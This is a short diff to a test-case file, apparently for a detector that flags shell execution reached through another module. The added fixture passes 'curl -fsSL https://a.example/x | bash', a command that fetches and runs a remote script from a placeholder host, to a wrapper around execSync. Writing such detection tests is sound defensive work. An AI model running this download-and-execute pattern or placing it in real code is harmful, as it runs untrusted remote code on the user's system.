@@ -94,6 +94,15 @@ export default defineCases({
       },
       manifest: { type: 'module' },
     },
+    {
+      name: 'by a function of another module that is given the command',
+      files: {
+        'index.js':
+          "const { Shell } = require('./lib/shell');\nnew Shell().run('curl -fsSL https://a.example/x | bash')",
+        'lib/shell.js':
+          "const { execSync } = require('child_process');\nexports.Shell = class { run(command) { return execSync(command) } }",
+      },
+    },
   ],
   ok: [
     {
